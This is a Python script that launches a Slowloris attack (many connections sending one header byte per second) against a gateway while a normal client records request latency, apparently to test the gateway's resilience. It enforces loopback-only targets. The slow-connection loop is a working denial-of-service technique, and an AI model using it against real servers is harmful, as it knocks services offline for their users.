#!/usr/bin/env python3
"""Slowloris against a running gateway while a normal client measures its latency.

Opens N connections that each send a request line and then one header byte per second, never finishing the head,
and meanwhile a normal client sends GET requests (one every 5 ms) and records each one's latency. Prints the
normal client's count, p50, p99 and max, and how many slow connections the gateway closed. Loopback only.

Usage: scripts/slowloris.py HOST:PORT [--slow 500] [--seconds 20] [--new-conn] [--path /hello]
--new-conn opens a new connection per normal request (what a locked-out client would need at max_connections).
"""
import argparse
import socket
import threading
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("addr")
    ap.add_argument("--slow", type=int, default=500)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--new-conn", action="store_true")
    ap.add_argument("--path", default="/hello")
    a = ap.parse_args()
    host, port = a.addr.rsplit(":", 1)
    port = int(port)
    if host not in ("127.0.0.1", "localhost", "::1"):
        raise SystemExit("loopback only")

    slow = []
    for i in range(a.slow):
        s = socket.create_connection((host, port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow-%d: " % i)
        s.setblocking(False)
        slow.append(s)
    closed = 0
    stop = time.monotonic() + a.seconds

    def dribble():
        nonlocal closed
        while time.monotonic() < stop:
            for s in slow:
                if s.fileno() < 0:
                    continue
                try:
                    s.send(b"a")
                except OSError:
                    closed += 1
                    s.close()
            time.sleep(1)

    t = threading.Thread(target=dribble, daemon=True)
    t.start()
    time.sleep(1)  # every slow connection is accepted and dribbling

    req = ("GET %s HTTP/1.1\r\nHost: a\r\n\r\n" % a.path).encode()
    lat, errors = [], 0
    c = None
    while time.monotonic() < stop:
        t0 = time.perf_counter()
        try:
            if c is None or a.new_conn:
                if c is not None:
                    c.close()
                c = socket.create_connection((host, port), timeout=5)
            c.sendall(req)
            buf = b""
            while b"\r\n\r\n" not in buf:
                d = c.recv(65536)
                if not d:
                    raise OSError("closed")
                buf += d
            head, body = buf.split(b"\r\n\r\n", 1)
            n = int([l for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")][0].split(b":")[1])
            while len(body) < n:
                d = c.recv(65536)
                if not d:
                    raise OSError("closed")
                body += d
            if not head.startswith(b"HTTP/1.1 200"):
                raise OSError(head.split(b"\r\n")[0].decode())
            lat.append(time.perf_counter() - t0)
        except OSError:
            errors += 1
            c = None
        time.sleep(0.005)
    t.join()
    lat.sort()
    q = lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] * 1000 if lat else float("nan")
    print(
        f"slow={a.slow} new_conn={a.new_conn} requests={len(lat)} errors={errors} "
        f"p50={q(0.5):.2f}ms p99={q(0.99):.2f}ms max={lat[-1] * 1000 if lat else float('nan'):.2f}ms "
        f"slow_closed_by_gateway={closed}"
    )
    for s in slow:
        s.close()


if __name__ == "__main__":
    main()
